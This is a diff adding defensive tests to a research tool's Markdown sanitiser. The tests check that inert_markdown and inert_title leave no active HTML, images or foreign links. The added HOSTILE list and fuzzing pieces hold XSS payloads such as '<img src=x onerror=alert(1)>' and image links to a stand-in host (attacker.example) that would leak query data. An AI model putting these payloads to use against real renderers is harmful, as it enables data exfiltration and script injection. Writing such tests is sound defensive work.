@@ -11,8 +11,12 @@ from __future__ import annotations
 import uuid
 from typing import Any
 
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 from langchain_core.messages import AIMessage, BaseMessage, HumanMessage
 from langgraph.checkpoint.memory import InMemorySaver
+from markdown_it import MarkdownIt
 
 from deep_research.context import Context
 from deep_research.engines.llm.engine import LLMEngine
@@ -72,6 +76,106 @@ def test_offsets_move_with_the_edits() -> None:
         start = source.rindex(phrase)
         moved = inert.moved(start), inert.moved(start + len(phrase))
         assert inert.text[moved[0] : moved[1]] == phrase
+
+
+REFERENCE = "https://ref.example/a"
+
+
+def _live(markdown: str, allowed: set[str]) -> list[str]:
+    """What a CommonMark renderer (markdown-it-py) makes active in ``markdown``."""
+    parser = MarkdownIt("commonmark")
+    targets = {parser.normalizeLink(url) for url in allowed}
+    pending, live = parser.parse(markdown), []
+    while pending:
+        token = pending.pop()
+        pending.extend(token.children or [])
+        if token.type in ("html_block", "html_inline", "image"):
+            live.append(f"{token.type}: {token.content!r}")
+        elif token.type == "link_open" and token.attrGet("href") not in targets:
+            live.append(f"link: {token.attrGet('href')!r}")
+    return live
+
+
+HOSTILE = [
+    # issue 43: each was live after inert_markdown
+    "![x](//attacker.example/p.png?q=question 'title')",
+    "![x](//attacker.example/p.png?q=question (title))",
+    "\\`<img src=x onerror=alert(1)>`",
+    "`a\n\n<img src=x onerror=alert(1)>`",
+    "```\ncode\n`````\n<img src=x onerror=alert(1)>\n```\n",
+    f"> [leak]: {LEAK}\n\n[leak]",
+    f"- [leak]: {LEAK}\n\n[leak]",
+    f"1. [leak]: {LEAK} 'title'\n\nSee [leak][].",
+]
+
+
+@pytest.mark.parametrize("source", HOSTILE)
+def test_hostile_markdown_a_commonmark_renderer_reads_otherwise_is_inert(source: str) -> None:
+    out = inert_markdown(source, {REFERENCE}).text
+    assert _live(source, {REFERENCE}), "the case is live before"
+    assert _live(out, {REFERENCE}) == [], out
+
+
+def test_a_protocol_relative_image_in_a_title_is_inert() -> None:
+    title = inert_title("Batteries ![x](//attacker.example/p.png?q=question 'title')")
+    assert _live(f"# {title}", set()) == [] and "attacker.example" in title
+
+
+_PIECES = [
+    "![x](//h.example/i.png 't')",
+    f"![x]({LEAK})",
+    f"![x]({REFERENCE})",
+    f"[a]({LEAK})",
+    f"[ref]({REFERENCE})",
+    f'[a]({LEAK} "t")',
+    f"<{LEAK}>",
+    "<a@b.example>",
+    "<img src=x onerror=alert(1)>",
+    "<script>",
+    "<!-- c -->",
+    "<div>",
+    "`",
+    "``",
+    "\\`",
+    "\\",
+    "```",
+    "````",
+    "~~~",
+    "    ",
+    "> ",
+    "- ",
+    "1. ",
+    "[r]: ",
+    f"[r]: {LEAK}",
+    "[r]",
+    "[r][]",
+    "]",
+    "[",
+    "(",
+    ")",
+    "!",
+    "'t'",
+    '"t"',
+    "\n",
+    "\n\n",
+    "//h.example/x",
+    LEAK,
+    "www.h.example",
+    "&lt;",
+    "&#60;img src=x>",
+    "\x1b[31m",
+    "text",
+    " ",
+]
+
+
+@settings(max_examples=3000, deadline=None)
+@given(st.lists(st.sampled_from(_PIECES), max_size=24).map("".join))
+def test_random_hostile_markdown_renders_with_nothing_active(source: str) -> None:
+    """No raw HTML, no image, no link but to a reference, as markdown-it-py renders it."""
+    inert = inert_markdown(source, {REFERENCE})
+    assert _live(inert.text, {REFERENCE}) == [], inert.text
+    assert _live(inert_title(source), set()) == []
 
 
 SCRIPT = "<script>alert(1)</script>"
